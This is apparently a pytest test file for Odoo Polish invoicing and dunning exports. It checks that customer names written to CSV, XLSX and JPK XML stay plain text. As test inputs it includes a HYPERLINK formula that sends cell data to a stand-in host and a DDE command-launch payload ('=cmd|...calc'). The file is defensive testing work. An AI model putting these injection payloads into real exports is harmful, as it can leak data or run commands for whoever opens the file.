"""Exported files carry names as text: no spreadsheet formula, no XML error.

A customer named ``=HYPERLINK(...)`` must not become a live formula in the
VAT register (CSV injection, OWASP), and a control character pasted into a
name must not stop the JPK export.
"""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from lxml import etree
from odoo.addons.crm_dunning.tools.dispatch_csv import Letter, build_csv
from odoo.addons.crm_invoicing_pl.tools.export_text import spreadsheet_text, xml_text
from odoo.addons.crm_invoicing_pl_jpk.tools.jpk import (
    NAMESPACES,
    SalesRow,
    Taxpayer,
    sales_csv,
    sales_xlsx,
    write_jpk_v7m,
)

EVIL = '=HYPERLINK("http://x.example/?"&A1,"Kliknij")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+48 600 100 200", "'+48 600 100 200"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "' =1+1"),
        ("\r=1+1", "' =1+1"),
        ("Hurtownia Żółw Sp. z o.o.", "Hurtownia Żółw Sp. z o.o."),
        ("Jan\x07 Kowalski\nKraków", "Jan  Kowalski Kraków"),
        ("A=B", "A=B"),
        (None, ""),
        ("", ""),
    ],
)
def test_spreadsheet_text(value, expected):
    assert spreadsheet_text(value) == expected


def test_xml_text_drops_what_xml_forbids_and_keeps_the_rest():
    assert xml_text("Firma\x00 \x0bŻółw\x1f\ufffe") == "Firma Żółw"
    assert xml_text("tab\tline\nfeed\r") == "tab\tline\nfeed\r"
    assert xml_text(None) == ""


def _row(name):
    return SalesRow(
        number="FV/1/A",
        issue_date=datetime.date(2026, 12, 3),
        partner_name=name,
        partner_tin="1234567883",
        amounts={"K_19": "100", "K_20": "23"},
    )


def test_register_csv_names_are_text():
    text = sales_csv([_row(EVIL)])
    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert row[4] == "'" + EVIL
    assert row[0] == "1"  # the ordinal stays a number
    assert row[3] == "FV/1/A"


def test_register_xlsx_writes_no_formula():
    sheet = openpyxl.load_workbook(io.BytesIO(sales_xlsx([_row(EVIL)]))).active
    cell = sheet.cell(row=2, column=5)
    assert cell.data_type == "s"
    assert cell.value == "'" + EVIL
    assert sheet.cell(row=2, column=1).value == 1
    assert sheet.cell(row=2, column=2).data_type == "s"  # dates as text too
    for row in sheet.iter_rows():
        for each in row:
            assert each.data_type != "f"


def test_jpk_xml_with_a_control_character_in_the_name():
    out = io.BytesIO()
    write_jpk_v7m(
        out,
        [_row("Firma\x01 ABC\x1b Sp. z o.o.")],
        year=2026,
        month=12,
        created=datetime.datetime(2027, 1, 5, 8, 0),
        tax_office="1471",
        taxpayer=Taxpayer(nip="5260250274", name="Firma", email="biuro@firma.pl"),
    )
    root = etree.fromstring(out.getvalue())
    ns = {"tns": NAMESPACES["M"]}
    assert (
        root.findtext(
            "tns:Ewidencja/tns:SprzedazWiersz/tns:NazwaKontrahenta", namespaces=ns
        )
        == "Firma ABC Sp. z o.o."
    )


def test_dispatch_csv_names_are_text():
    letter = Letter(
        sequence=1,
        registered_number="00659007734210123456",
        name="=cmd|' /C calc'!A0",
        street="ul. Długa 12/4",
        zip="00-001",
        city="@Warszawa",
        fee=Decimal("8.60"),
    )
    row = list(csv.reader(io.StringIO(build_csv([letter])), delimiter=";"))[1]
    assert row[2] == "'=cmd|' /C calc'!A0"
    assert row[8] == "'@Warszawa"
    assert row[0] == "1"
    assert row[12] == "860"
